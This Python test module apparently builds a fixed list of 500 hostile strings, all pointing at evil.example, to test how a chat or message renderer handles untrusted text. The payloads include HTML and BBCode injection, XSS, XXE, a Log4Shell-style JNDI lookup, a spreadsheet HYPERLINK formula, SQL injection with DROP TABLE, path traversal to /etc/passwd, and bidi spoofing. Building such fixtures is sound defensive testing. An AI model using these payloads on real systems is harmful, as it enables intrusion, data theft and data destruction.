"""500 texts that want to be more than texts: HTML, BBCode, controls, entities, giants.

Every address in them leads to `evil.example`, so that a test can put a trap in its place.
"""

from collections.abc import Iterator

RLO, LRO, RLE, LRE, PDF = "\u202e", "\u202d", "\u202b", "\u202a", "\u202c"
LRI, RLI, FSI, PDI, ALM = "\u2066", "\u2067", "\u2068", "\u2069", "\u061c"
TURNING = (RLO, LRO, RLE, LRE, PDF, LRI, RLI, FSI, PDI)

_HTML = [
    "<b>bold</b>",
    "<h1>big</h1>",
    "<img src=http://evil.example/pixel.png>",
    "<img src='http://evil.example/p.png' width=1 height=1/>",
    "<img srcset='http://evil.example/p.png 2x'>",
    '<img src="//evil.example/p.png">',
    "<image src=http://evil.example/p.png>",
    "<svg onload=alert(1)><image href='http://evil.example/p.svg'/></svg>",
    "<script src=http://evil.example/x.js></script>",
    "<script>alert(1)</script>",
    "<iframe src=http://evil.example/></iframe>",
    "<object data=http://evil.example/x.swf></object>",
    "<embed src=http://evil.example/x>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>@import url(http://evil.example/x.css);</style>",
    "<body background=http://evil.example/b.png>",
    "<table background='http://evil.example/t.png'><tr><td>x</td></tr></table>",
    "<div style=\"background:url('http://evil.example/b.png')\">x</div>",
    "<span style='font-size:900px;color:white'>hidden</span>",
    "<a href='http://evil.example/'>https://bank.example</a>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=file:///etc/passwd>x</a>",
    "<a name='x'/><a href='#x'>jump</a>",
    "<form action=http://evil.example/><input name=a value=b><button>Go</button></form>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<base href=http://evil.example/>",
    "<video poster=http://evil.example/v.png></video>",
    "<!-- comment --><p>after",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'http://evil.example/'>]><x>&e;</x>",
    "<![CDATA[<b>x</b>]]>",
    "<qt>rich</qt>",
    "<html><body>whole</body></html>",
    "<p align=right>right",
    "<br><br><br><hr>",
    "<ul><li>one<li>two</ul>",
    "<font size=7 color=red>loud</font>",
    "<pre>\n" + "x" * 200 + "</pre>",
    "&lt;b&gt;once&lt;/b&gt;",
    "&amp;lt;b&amp;gt;twice",
    "&#60;img src=http://evil.example/p.png&#62;",
    "&#x3c;b&#x3e;",
    "&#0;&#1;&#8238;&#65279;",
    "&nbsp;&shy;&zwj;&notanentity;",
]
_BBCODE = [
    "[img]http://evil.example/p.png[/img]",
    "[img size=large]http://evil.example/p.png [/img]",
    "[icon=http://evil.example/i.png size=900 title=smile]",
    "[url=http://evil.example/]https://bank.example/[/url]",
    "[url=javascript:alert(1)]click[/url]",
    "[url=JaVaScRiPt:alert(1)]click[/url]",
    "[url=file:///etc/passwd]click[/url]",
    "[url=data:text/html,<script>]click[/url]",
    "[url=https://bank.example@evil.example/]bank[/url]",
    "[url=\\\\evil.example\\share]share[/url]",
    "[url=smb://evil.example/x]share[/url]",
    "[url]vbscript:msgbox[/url]",
    "[url=https://evil.example/][img]http://evil.example/p.png[/img][/url]",
    "[url=https://evil.example/?a=[b]bold[/b]]x[/url]",
    "[b][i][u][s]" * 200,
    "[/b][/i][/quote][/url]" * 200,
    "[quote]" * 300 + "deep" + "[/quote]" * 300,
    "[b]unclosed",
    "[b=1]argument[/b]",
    "[size=900]huge[/size][size=-1]tiny[/size]",
    "[color=#fff]white[/color][color=red;background:url(http://evil.example/)]x[/color]",
    "[send=/delete]press[/send][put=/x]put[/put]",
    "[call=112]call[/call][call]+3712000[/call]",
    "[user=1]Admin[/user][user=all]Everyone[/user][chat=1]chat[/chat]",
    "[disk=1][timestamp=99999999999999999999][timestamp=-1]",
    "[code]<b>[url=http://evil.example/]x[/url]</b>[/code]",
    "[code][/code][code]",
    "[[b]]nested brackets[[/b]]",
    "[b\u200b]zero width[/b]",
    "-" * 54 + "\n<b>Bank</b> [01.01.2026 10:00]\n<img src=http://evil.example/>\n" + "-" * 54,
    ">>" * 100 + "quote",
    "#BR##BR##BR#",
    ":f09f9880::f0ffffff::f0:",
]
_CONTROLS = [
    f"pay{RLO}gpj.exe",
    f"{LRO}forced{PDF} {RLE}embedded{PDF} {LRE}x{PDF}",
    f"{LRI}isolate{PDI}{RLI}isolate{FSI}never closed",
    f"https://evil.example/{RLO}moc.knab//:sptth",
    f"{ALM}mark \u200e\u200f",
    "a\x00b\x07c\x1b[31mred\x1b]8;;http://evil.example\x07x",
    "\x08" * 50 + "backspace",
    "carriage\rreturn\r\n",
    "\u2028line\u2029paragraph\x85next\x0bvertical\x0cform",
    "\ufeffbom\u200bzero\u2060word\u00adsoft\u180e",
    "\ud83d lone \udc00",
    "\ufffe\uffff\ufdd0",
    "\u0301" * 400,
    "Z\u0351\u0343\u0368\u0313" * 60,
    "\U000e0041\U000e0042 tags",
    "👩\u200d👩\u200d👧\u200d👦" * 60,
    "🏴\U000e0067\U000e0062\U000e0065\U000e007f",
    "﷽" * 40,
    "ܟܘܪ עברית العربية mixed 123 עברית",
    "\u3000\u2003\u00a0" * 80,
    "\t" * 120 + "far",
]
_GIANTS = [
    "z" * 5_000,
    "http://evil.example/" + "a" * 4_000,
    "http://evil.example/ " * 200,
    "(" * 1_000 + "http://evil.example/" + ")" * 1_000,
    "&" * 3_000,
    "&lt;" * 800,
    "<" * 2_000,
    "[" * 2_000,
    "[b]" * 900,
    "\n" * 400,
    "%n %1 %2 %s {0} {name} {{}} %(x)s \\n",
    "{time} {name} {host} {url} {value} {line}",
    "${jndi:ldap://evil.example/a}",
    '=HYPERLINK("http://evil.example/")',
    "' OR 1=1; DROP TABLE message; --",
    "../../../../etc/passwd\\..\\..\\C:\\Windows",
    "session-started:1",
    "&File &&Edit _x",
    "session-finished:<b>1</b>",
    "not-a-note:1",
]
_BASES = [*_HTML, *_BBCODE, *_CONTROLS, *_GIANTS]
_FRAMES = (
    "{}",
    "words before {} and after",
    "<qt>{}</qt>",
    "[b]{}[/b]",
    "http://evil.example/?q={}",
)


def _all() -> Iterator[str]:
    for frame in _FRAMES:
        for base in _BASES:
            if frame == "{}" or len(base) < 900:
                yield frame.replace("{}", base)


HOSTILE_TEXTS: tuple[str, ...] = tuple(dict.fromkeys(_all()))[:500]
